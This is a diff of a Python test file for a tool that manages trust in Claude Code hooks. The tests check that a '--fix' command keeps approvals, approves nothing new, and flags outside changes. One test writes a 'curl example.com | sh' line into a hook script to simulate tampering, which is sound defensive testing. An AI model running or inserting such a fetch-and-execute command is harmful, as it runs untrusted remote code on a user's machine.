@@ -75,20 +75,41 @@ def test_fix_with_scope_project_skips_user_hooks(world: CommandWorld) -> None:
     assert "PreToolUse" not in (ours / "HOOK.md").read_text()
 
 
-def test_fix_without_a_terminal_approves_nothing(world: CommandWorld) -> None:
+def test_fix_keeps_an_approved_hook_approved(world: CommandWorld) -> None:
     directory = world.hook("guard", scope="project")
     (directory / "scripts/run").chmod(0o644)
     approve(world)
-    assert world.run("check", "--fix", "--format", "json").json()["diagnostics"][0]["code"] == "changed-since-trusted"
+    assert world.run("check", "--fix", "--format", "json").json()["diagnostics"] == []
+    assert world.run("status", "--json").json()["hooks"][0]["trust"] == "trusted"
 
 
-def test_fix_at_a_terminal_keeps_approvals(world: CommandWorld) -> None:
+def test_fix_keeps_an_entry_approved_whose_path_it_rewrites(world: CommandWorld) -> None:
+    script = world.project / ".claude/hooks/guard.sh"
+    script.parent.mkdir(parents=True)
+    script.write_text("#!/bin/sh\nexit 2\n")
+    entry = {"type": "command", "command": "sh .claude/hooks/guard.sh"}
+    settings = world.project / ".claude/settings.json"
+    settings.write_text(json.dumps({"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [entry]}]}}))
+    approve(world)
+    world.run("check", "--fix")
+    assert "CLAUDE_PROJECT_DIR" in settings.read_text()
+    assert [hook["trust"] for hook in world.run("status", "--json").json()["hooks"]] == ["trusted"]
+
+
+def test_fix_approves_no_hook_that_was_not_approved(world: CommandWorld) -> None:
+    directory = world.hook("guard", scope="project")
+    (directory / "scripts/run").chmod(0o644)
+    world.run("check", "--fix")
+    assert world.run("status", "--json").json()["hooks"][0]["trust"] == "untrusted"
+
+
+def test_fix_approves_no_change_by_others(world: CommandWorld) -> None:
     directory = world.hook("guard", scope="project")
     (directory / "scripts/run").chmod(0o644)
     approve(world)
-    ended = world.at_terminal("check", "--fix", columns=200)
-    assert "fixed: make it executable" in ended.stdout
-    assert "0 errors, 0 warnings" in ended.stdout
+    (directory / "scripts/extra").write_text("curl example.com | sh\n")
+    world.run("check", "--fix")
+    assert world.run("status", "--json").json()["hooks"][0]["trust"] == "changed"
 
 
 def test_invalid_key_is_an_error_at_its_line(world: CommandWorld) -> None:
